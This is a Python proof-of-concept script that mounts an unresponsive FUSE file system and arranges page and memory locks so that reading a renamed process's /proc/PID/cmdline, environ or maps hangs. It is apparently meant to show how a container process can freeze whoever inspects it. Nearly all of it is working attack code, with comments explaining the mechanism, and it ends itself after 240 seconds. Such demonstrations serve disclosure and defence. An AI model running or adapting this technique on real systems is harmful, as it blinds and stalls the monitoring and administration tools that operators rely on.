# python3 stuck-memory.py NAME: what a container's process can do to those who read its command line or environment.
# Mounts a file system of its own whose reads are never answered. One process reads a file of it, which locks the page;
# another one, that bears the name, lets a thread map the same file past the cache, which waits for that page with the
# lock of the process's memory held, while its first thread merely sleeps. Reading /proc/PID/cmdline, environ or maps
# hangs then. (Putting the file where the arguments are does not: the kernel reads those from anonymous memory only.)
# Speaks the protocol of fuse(4). Ends by itself, which lets all go on who hang.
import ctypes, os, signal, struct, sys, threading, time

FUSE_LOOKUP, FUSE_GETATTR, FUSE_OPEN, FUSE_READ, FUSE_INIT = 1, 3, 14, 15, 26
ENOENT, ENOSYS = 2, 38
FOPEN_DIRECT_IO, FOPEN_KEEP_CACHE = 1, 2
PROT_READ, MAP_PRIVATE = 1, 2
size = 1 << 20
libc = ctypes.CDLL(None, use_errno=True)


def attributes(node):
    mode = 0o40755 if node == 1 else 0o100644
    return struct.pack("<6Q10I", node, 0 if node == 1 else size, 0, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)


def serve(device, begun):
    opened = 0
    while True:
        request = os.read(device, 1 << 17)
        _, opcode, unique, node = struct.unpack_from("<IIQQ", request)
        error, body = 0, b""
        if opcode == FUSE_INIT:
            body = struct.pack("<4I2H2I8I", 7, 31, 0, 0, 0, 0, 1 << 16, 1, *[0] * 8)
        elif opcode == FUSE_LOOKUP:
            if request[40:].startswith(b"stuck\0"):
                body = struct.pack("<4Q2I", 2, 0, 1000, 1000, 0, 0) + attributes(2)
            else:
                error = -ENOENT
        elif opcode == FUSE_GETATTR:
            body = struct.pack("<Q2I", 1000, 0, 0) + attributes(node)
        elif opcode == FUSE_OPEN:
            # The first one reads through the cache, the others past it.
            opened += 1
            body = struct.pack("<Q2I", 0, FOPEN_DIRECT_IO | FOPEN_KEEP_CACHE if opened > 1 else 0, 0)
        elif opcode == FUSE_READ:
            os.write(begun, b"x")
            continue
        else:
            error = -ENOSYS
        os.write(device, struct.pack("<IiQ", 16 + len(body), error, unique) + body)


# As the first process of a container it is ended by nothing that it does not handle.
signal.signal(signal.SIGALRM, lambda *_: os._exit(0))
signal.alarm(240)
os.makedirs("/mnt", exist_ok=True)
device = os.open("/dev/fuse", os.O_RDWR)
options = f"fd={device},rootmode=40000,user_id=0,group_id=0,allow_other"
if libc.mount(b"stuck", b"/mnt", b"fuse.stuck", 0, options.encode()) != 0:
    raise OSError(ctypes.get_errno(), "mount")

begun, tell = os.pipe()
if os.fork() == 0:
    os.close(device)
    os.read(os.open("/mnt/stuck", os.O_RDONLY), 1)
if os.fork() == 0:
    os.close(device)
    # The other one waits in its read.
    os.read(begun, 1)
    file = os.open("/mnt/stuck", os.O_RDONLY)
    rename, name = libc.prctl, sys.argv[1].encode()
    # What it needs is in memory before: it can get no more then.
    rename(15, b"waiting", 0, 0, 0)
    map = lambda: libc.mmap(None, ctypes.c_size_t(4096), PROT_READ, MAP_PRIVATE, file, ctypes.c_long(0))
    threading.Thread(target=map, daemon=True).start()
    time.sleep(1)
    # Whoever looks at names sees a new one, and reads what belongs to it.
    rename(15, name, 0, 0, 0)
    while True:
        time.sleep(1000)
serve(device, tell)
